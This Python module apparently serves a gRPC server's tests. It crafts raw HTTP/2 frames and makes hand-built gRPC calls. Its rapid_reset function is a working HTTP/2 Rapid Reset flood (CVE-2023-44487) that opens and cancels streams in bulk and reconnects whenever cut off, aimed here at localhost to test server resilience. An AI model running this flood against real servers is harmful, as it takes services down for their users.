"""HTTP/2 frames by hand, for what no gRPC client sends."""

from __future__ import annotations

import socket
import struct
import threading
import time
from collections.abc import Iterable
from contextlib import suppress
from urllib.parse import unquote_to_bytes

import hpack

DATA, HEADERS, RST_STREAM, SETTINGS, GOAWAY = 0, 1, 3, 4, 7
END_STREAM, END_HEADERS, ACK = 1, 4, 1


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """https://www.rfc-editor.org/rfc/rfc9113#section-4.1"""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, b"")


def literal(name: bytes, value: bytes) -> bytes:
    """A header as it is: https://www.rfc-editor.org/rfc/rfc7541#section-6.2.2"""
    assert len(name) < 127
    assert len(value) < 127
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def call_headers(path: bytes, *metadata: tuple[bytes, bytes]) -> bytes:
    """The headers of a gRPC call."""
    fields = {b":method": b"POST", b":scheme": b"http", b":path": path, b":authority": b"test", b"te": b"trailers"}
    fields[b"content-type"] = b"application/grpc"
    return b"".join(literal(*field) for field in (*fields.items(), *metadata))


def header_lines(decoder: hpack.Decoder, payload: bytes) -> bytes:
    """The headers of a frame, one a line: `name: value`. Some servers percent-encode more of gRPC's message."""
    return b"".join(b"%b: %b\n" % (name, unquote_to_bytes(value)) for name, value in decoder.decode(payload, raw=True))


def call(port: int, path: bytes, message: bytes, metadata: Iterable[tuple[bytes, bytes]] = ()) -> bytes:
    """Makes a call on a connection of its own; returns all that comes back until it ends, with headers as lines."""
    body = b"\0" + struct.pack(">I", len(message)) + message
    with socket.create_connection(("127.0.0.1", port), timeout=10) as connection:
        connection.sendall(PREFACE + frame(HEADERS, END_HEADERS, 1, call_headers(path, *metadata)))
        connection.sendall(frame(DATA, END_STREAM, 1, body))
        received, decoder = b"", hpack.Decoder()
        with connection.makefile("rb") as stream:
            while head := stream.read(9):
                payload = stream.read(int.from_bytes(head[:3], "big"))
                kind, flags, number = head[3], head[4], int.from_bytes(head[5:9], "big")
                received += head + (header_lines(decoder, payload) if kind == HEADERS else payload)
                if kind == GOAWAY or (number == 1 and (kind == RST_STREAM or flags & END_STREAM)):
                    break
        return received


def rapid_reset(port: int, path: bytes, seconds: float) -> int:
    """Opens streams and resets each at once, as fast as possible; returns how many.

    A connection that the server ends is followed by another: https://nvd.nist.gov/vuln/detail/CVE-2023-44487
    """
    headers, body, reset = call_headers(path), b"\0\0\0\0\0", struct.pack(">I", 8)
    blocks = [
        b"".join(
            frame(HEADERS, END_HEADERS, stream, headers)
            + frame(DATA, END_STREAM, stream, body)
            + frame(RST_STREAM, 0, stream, reset)
            for stream in range(first, first + 1000, 2)
        )
        for first in range(1, 200_000, 1000)
    ]
    sent, end = 0, time.monotonic() + seconds
    while time.monotonic() < end:
        with suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=10) as connection:
            connection.sendall(PREFACE + frame(SETTINGS, ACK, 0, b""))
            threading.Thread(target=_discard, args=(connection,), daemon=True).start()
            for block in blocks:
                if time.monotonic() > end:
                    break
                connection.sendall(block)
                sent += 500
    return sent


def _discard(connection: socket.socket) -> None:
    with suppress(OSError):
        while connection.recv(2**20):
            pass
